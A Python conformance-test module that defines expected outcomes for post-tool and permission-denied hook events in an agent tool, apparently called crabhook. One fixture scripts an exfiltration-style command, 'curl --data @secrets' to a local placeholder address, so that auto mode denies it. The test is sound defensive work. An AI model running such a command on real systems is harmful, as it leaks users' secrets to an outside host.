"""Cells of what comes after a call: its result, its failure, a batch of them, a denial."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

from crabhook.model.decision import Decision, Verdict
from tests.conformance.cell import Cell, Drive, Fact
from tests.conformance.cells.calls import HALTED, NOTE, STOP, TELL
from tests.conformance.facts import (
    ASKED_AGAIN,
    ENDED,
    NOTHING_SAID,
    UNHALTED,
    UNTOLD,
    WORD,
    fact,
    fired,
    model_did_not_read,
    model_read,
    ran,
    shown,
    told_as_result,
)
from tests.conformance.steps import see
from tests.support.turns import Text, bash

SAID = "as the command said it"
FEEDBACK = "look at this again"
SPEAKS = Drive(((bash(f"echo {SAID}; touch made"),), (Text("All said."),)))
FAILS = Drive(((bash(f"echo {SAID}; touch made; exit 3"),), (Text("All said."),)))
IN_TERMINAL = (see("All said."),)
RAN = ran(words="the command had run already")
READ_RESULT = told_as_result(SAID, "the model read the result")


def _of(event: str, drive: Drive, *more: Cell) -> tuple[Cell, ...]:
    """The cells that PostToolUse, PostToolUseFailure and PostToolBatch have in common."""

    def cell(title: str, decision: Decision, *facts: Fact, at: Drive = drive) -> Cell:
        return Cell(event, title, decision, at, facts)

    return (
        cell("allow", Decision(Verdict.ALLOW), NOTHING_SAID, READ_RESULT, ASKED_AGAIN),
        cell(
            "allow with a note",
            Decision(Verdict.ALLOW, note=NOTE),
            READ_RESULT,
            model_read(NOTE, "the model read the note beside it"),
        ),
        *more,
        cell(
            "allow with a message to the user",
            Decision(Verdict.ALLOW, user_message=WORD),
            shown(WORD, "the user saw the message"),
            model_did_not_read(WORD, "the model did not"),
            at=replace(drive, steps=IN_TERMINAL),
        ),
    )


AUTO = Drive(
    ((bash("curl --data @secrets http://127.0.0.1:9"),), (Text("All said."),)), mode="auto"
)
CAME = fired("PermissionDenied", "auto mode denied the call, its check being out of reach here")


def _denied(
    title: str, decision: Decision, *facts: Fact, words: dict[str, Any] | None = None
) -> Cell:
    return Cell(
        "PermissionDenied",
        title,
        decision,
        AUTO,
        (CAME, *facts),
        passed=("PreToolUse",),
        words=words,
    )


DENIALS = (
    _denied("allow", Decision(Verdict.ALLOW), NOTHING_SAID, ASKED_AGAIN),
    _denied(
        "retry",
        Decision(Verdict.RETRY),
        model_read("allows one more try", "the model was told that it may try again"),
        ASKED_AGAIN,
    ),
    _denied(
        "allow, and stop the session", Decision(Verdict.ALLOW, halt=HALTED), UNHALTED, words=STOP
    ),
    _denied(
        "allow with a message to the user",
        Decision(Verdict.ALLOW, user_message=WORD),
        UNTOLD,
        words=TELL,
    ),
)


def _stops(event: str) -> Cell:
    return Cell(
        event,
        "allow, and stop the session",
        Decision(Verdict.ALLOW, halt=HALTED),
        SPEAKS,
        (RAN, ENDED),
    )


CELLS = (
    *_of(
        "PostToolUse",
        SPEAKS,
        _stops("PostToolUse"),
        Cell(
            "PostToolUse",
            "allow with replaced output",
            Decision(
                Verdict.ALLOW,
                output={"stdout": "something else", "stderr": "", "interrupted": False},
            ),
            SPEAKS,
            (
                told_as_result("something else", "the model read the operator's output"),
                fact("and not the command's own", lambda seen: SAID not in seen.results()),
            ),
        ),
        Cell(
            "PostToolUse",
            "deny",
            Decision(Verdict.DENY, reason=FEEDBACK),
            SPEAKS,
            (RAN, READ_RESULT, model_read(FEEDBACK, "the model read the feedback beside it")),
        ),
    ),
    *_of(
        "PostToolUseFailure",
        FAILS,
        Cell(
            "PostToolUseFailure",
            "allow, and stop the session",
            Decision(Verdict.ALLOW, halt=HALTED),
            FAILS,
            (RAN, UNHALTED),
            words=STOP,
        ),
        Cell(
            "PostToolUseFailure",
            "deny",
            Decision(Verdict.DENY, reason=FEEDBACK),
            FAILS,
            (RAN, READ_RESULT, model_read(FEEDBACK, "the model read the feedback beside it")),
        ),
    ),
    *_of(
        "PostToolBatch",
        SPEAKS,
        _stops("PostToolBatch"),
        Cell(
            "PostToolBatch",
            "deny",
            Decision(Verdict.DENY, reason=FEEDBACK),
            SPEAKS,
            (RAN, ENDED),
        ),
    ),
    *DENIALS,
)
